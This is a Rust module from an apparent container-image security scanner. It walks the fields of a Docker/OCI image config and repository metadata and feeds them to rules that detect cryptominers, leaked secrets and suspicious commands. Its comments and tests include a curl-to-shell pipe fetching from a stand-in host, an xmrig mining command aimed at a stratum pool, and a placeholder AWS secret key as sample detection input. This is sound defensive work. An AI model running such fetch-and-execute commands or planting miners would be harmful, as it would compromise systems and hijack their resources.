//! The image-config scan.
//!
//! An image's config carries as much of its intent as its layers: a miner's pool URL in `Cmd`,
//! an AWS key in `Env`, a `curl … | sh` in a `history[].created_by`, a wallet in a label. Each
//! field is handed to the same content rules and indicator extractor as a file, as a
//! [`FileKind::ConfigField`] whose path names the field (`config.Env[3]`, `config.Cmd`,
//! `history[5].created_by`, `config.Labels.maintainer`).
//!
//! The command the image runs is also judged as a command: `Entrypoint` followed by `Cmd` is
//! what Docker starts, and the program it starts (`xmrig`, `tor`, `masscan`, after `sh -c`,
//! `tini --` or `exec`) names the tool the image exists to run. A program found in the
//! Entrypoint's words is reported at `config.Entrypoint`, one in the Cmd's at `config.Cmd`; the
//! Cmd is also judged alone, because an entrypoint script (`docker-entrypoint.sh`) usually ends
//! in `exec "$@"`.
//!
//! The JSON is read as an untyped value, not a schema: configs on a public registry carry
//! nulls, strings where arrays belong, and fields nobody documented, and one odd field must not
//! hide the rest.

use std::time::Instant;

use hubcensus_rules::{FileKind, FileMeta};
use hubcensus_types::{Finding, Indicator, Subject};
use serde_json::Value;

use crate::{Walker, budget::Budget, collect::Scan};

/// What the config (or metadata) scan found.
#[derive(Debug, Clone, Default)]
pub struct ConfigScan {
    /// Findings, each with [`Subject::Config`] (or [`Subject::Metadata`]) and the field as its
    /// path.
    pub findings: Vec<Finding>,
    /// Distinct network indicators, each with the first field that referenced it.
    pub indicators: Vec<(Indicator, String)>,
    /// Whether the indicator set hit its cap.
    pub indicators_truncated: bool,
    /// Why the config could not be read, if it could not.
    pub error: Option<ConfigError>,
}

/// Why an image config was not scanned.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ConfigError {
    /// The bytes are not JSON (the message names line and column).
    #[error("image config is not JSON: {0}")]
    NotJson(String),
    /// The JSON is not an object.
    #[error("image config is not a JSON object")]
    NotAnObject,
}

impl Walker<'_> {
    /// Scans an OCI or Docker image config blob. Never panics; malformed input is reported in
    /// [`ConfigScan::error`].
    pub fn scan_config(&self, config_json: &[u8]) -> ConfigScan {
        let budget = Budget::new(&self.limits, Instant::now());
        let mut scan = Scan::new(self.rules, self.extractor, &budget, Subject::Config);
        let error = match serde_json::from_slice::<Value>(config_json) {
            Err(e) => Some(ConfigError::NotJson(e.to_string())),
            Ok(Value::Object(root)) => {
                for (path, text) in fields(&root) {
                    scan_field(&mut scan, &path, &text, FileKind::ConfigField);
                }
                if let Some(Value::Object(config)) = root.get("config") {
                    judge_command(&mut scan, config);
                }
                None
            }
            Ok(_) => Some(ConfigError::NotAnObject),
        };
        let (indicators, indicators_truncated) = scan.judge_hosts();
        ConfigScan { findings: scan.findings, indicators, indicators_truncated, error }
    }

    /// Scans a repository's metadata — `(field, text)` pairs such as its short and full
    /// descriptions — with the same rules and indicator extraction as a layer's text files.
    /// Spam campaigns of image-less repositories live only here. Findings carry
    /// [`Subject::Metadata`] and the field as their path; `error` is always `None`.
    pub fn scan_metadata(&self, fields: &[(&str, &str)]) -> ConfigScan {
        let budget = Budget::new(&self.limits, Instant::now());
        let mut scan = Scan::new(self.rules, self.extractor, &budget, Subject::Metadata);
        for (path, text) in fields {
            // Descriptions are prose the owner wrote, like a README: plain text.
            scan_field(&mut scan, path, text, FileKind::Text);
        }
        let (indicators, indicators_truncated) = scan.judge_hosts();
        ConfigScan { findings: scan.findings, indicators, indicators_truncated, error: None }
    }
}

/// One named value through the content rules and the extractor, as a file of `kind`.
fn scan_field(scan: &mut Scan<'_, '_>, path: &str, text: &str, kind: FileKind) {
    let meta = FileMeta { path, kind, size: text.len() as u64, executable: false };
    scan.scan_bytes(&meta, text.as_bytes());
    scan.flush(path);
}

/// The command rules on the image's command: `Entrypoint` + `Cmd` as Docker joins them, then
/// `Cmd` alone (what an entrypoint script's `exec "$@"` runs). A program is reported at the
/// field its word came from, once per (rule, command line).
fn judge_command(scan: &mut Scan<'_, '_>, config: &serde_json::Map<String, Value>) {
    let entrypoint = argv(config.get("Entrypoint"));
    let cmd = argv(config.get("Cmd"));
    let joined: Vec<&str> = entrypoint.iter().chain(&cmd).copied().collect();
    let mut found = scan.judge_command(&joined);
    if !entrypoint.is_empty() {
        for mut m in scan.judge_command(&cmd) {
            if !found.iter().any(|f| f.rule == m.rule && f.fingerprint == m.fingerprint) {
                m.offset = m.offset.map(|word| word + entrypoint.len() as u64);
                found.push(m);
            }
        }
    }
    let (in_entrypoint, in_cmd): (Vec<_>, Vec<_>) =
        found.into_iter().partition(|m| m.offset.is_some_and(|word| word < entrypoint.len() as u64));
    scan.report("config.Entrypoint", in_entrypoint);
    scan.report("config.Cmd", in_cmd);
}

/// A command as exec-form words: an array's strings, or a shell-form string as Docker runs it
/// (`/bin/sh -c STRING`). Nulls and other types are no command.
fn argv(v: Option<&Value>) -> Vec<&str> {
    match v {
        Some(Value::String(s)) if !s.is_empty() => vec!["/bin/sh", "-c", s],
        Some(Value::Array(items)) => items.iter().filter_map(Value::as_str).collect(),
        _ => Vec::new(),
    }
}

/// Every scannable field of a config, as (path, text), in a fixed order.
fn fields(root: &serde_json::Map<String, Value>) -> Vec<(String, String)> {
    let mut out = Vec::new();
    if let Some(Value::Object(config)) = root.get("config") {
        if let Some(Value::Array(env)) = config.get("Env") {
            for (i, v) in env.iter().enumerate() {
                if let Some(s) = v.as_str() {
                    out.push((format!("config.Env[{i}]"), s.to_owned()));
                }
            }
        }
        for key in ["Entrypoint", "Cmd", "Shell"] {
            if let Some(text) = config.get(key).and_then(joined) {
                out.push((format!("config.{key}"), text));
            }
        }
        if let Some(Value::Object(labels)) = config.get("Labels") {
            for (k, v) in labels {
                let value = v.as_str().unwrap_or_default();
                out.push((format!("config.Labels.{k}"), format!("{k}={value}")));
            }
        }
        if let Some(Value::Array(onbuild)) = config.get("OnBuild") {
            for (i, v) in onbuild.iter().enumerate() {
                if let Some(s) = v.as_str() {
                    out.push((format!("config.OnBuild[{i}]"), s.to_owned()));
                }
            }
        }
        if let Some(test) = config.get("Healthcheck").and_then(|h| h.get("Test")).and_then(joined) {
            out.push(("config.Healthcheck.Test".to_owned(), test));
        }
        for key in ["User", "WorkingDir"] {
            if let Some(s) = config.get(key).and_then(Value::as_str).filter(|s| !s.is_empty()) {
                out.push((format!("config.{key}"), s.to_owned()));
            }
        }
    }
    if let Some(Value::Array(history)) = root.get("history") {
        for (i, h) in history.iter().enumerate() {
            if let Some(s) = h.get("created_by").and_then(Value::as_str) {
                out.push((format!("history[{i}].created_by"), s.to_owned()));
            }
        }
    }
    out
}

/// An exec-form array joined with spaces (`["./xmrig", "-o", "x"]` → `./xmrig -o x`), or a
/// shell-form string as is. Non-string elements are skipped.
fn joined(v: &Value) -> Option<String> {
    match v {
        Value::String(s) if !s.is_empty() => Some(s.clone()),
        Value::Array(items) => {
            let parts: Vec<&str> = items.iter().filter_map(Value::as_str).collect();
            (!parts.is_empty()).then(|| parts.join(" "))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_are_named_and_joined() {
        let json = serde_json::json!({
            "architecture": "amd64",
            "config": {
                "Env": ["PATH=/usr/bin", null, "AWS_SECRET_ACCESS_KEY=abc"],
                "Entrypoint": null,
                "Cmd": ["./xmrig", "-o", "stratum+tcp://pool.example:3333"],
                "Labels": {"maintainer": "a@b.c", "odd": null},
                "Healthcheck": {"Test": ["CMD-SHELL", "curl -f http://localhost/"]},
                "OnBuild": ["RUN echo hi"],
                "User": "",
                "WorkingDir": "/app",
                "Unknown": {"x": 1}
            },
            "history": [{"created_by": "/bin/sh -c curl http://x.example | sh"}, {"empty_layer": true}]
        });
        let Value::Object(root) = json else { unreachable!() };
        let got = fields(&root);
        let want: Vec<(String, String)> = [
            ("config.Env[0]", "PATH=/usr/bin"),
            ("config.Env[2]", "AWS_SECRET_ACCESS_KEY=abc"),
            ("config.Cmd", "./xmrig -o stratum+tcp://pool.example:3333"),
            ("config.Labels.maintainer", "maintainer=a@b.c"),
            ("config.Labels.odd", "odd="),
            ("config.OnBuild[0]", "RUN echo hi"),
            ("config.Healthcheck.Test", "CMD-SHELL curl -f http://localhost/"),
            ("config.WorkingDir", "/app"),
            ("history[0].created_by", "/bin/sh -c curl http://x.example | sh"),
        ]
        .into_iter()
        .map(|(a, b)| (a.to_owned(), b.to_owned()))
        .collect();
        assert_eq!(got, want);
    }

    #[test]
    fn metadata_is_scanned_as_text_with_its_own_subject() {
        let rules = hubcensus_rules::RuleSet::builtin().unwrap();
        let extractor = hubcensus_intel::IndicatorExtractor::new(hubcensus_intel::ExtractLimits::default());
        let walker = Walker::new(&rules, &extractor, crate::Limits::default());
        let scan = walker.scan_metadata(&[
            ("description", "Fast miner: xmrig -o stratum+tcp://pool.supportxmr.com:3333"),
            ("full_description", "# Free movies\nWatch at https://watch-free.example.xyz/now"),
        ]);
        assert!(scan.error.is_none());
        let stratum = scan.findings.iter().find(|f| f.rule == "stratum_url").unwrap();
        assert_eq!((stratum.subject.clone(), stratum.path.as_str()), (Subject::Metadata, "description"));
        let hosts: Vec<(&str, &str)> =
            scan.indicators.iter().map(|(i, path)| (i.value.as_str(), path.as_str())).collect();
        assert!(hosts.contains(&("watch-free.example.xyz", "full_description")), "{hosts:?}");
    }

    #[test]
    fn shell_form_strings_and_garbage_types_are_tolerated() {
        let json = serde_json::json!({"config": {"Cmd": "sh -c run", "Env": "not-an-array", "Labels": []}});
        let Value::Object(root) = json else { unreachable!() };
        assert_eq!(fields(&root), vec![("config.Cmd".to_owned(), "sh -c run".to_owned())]);
    }
}
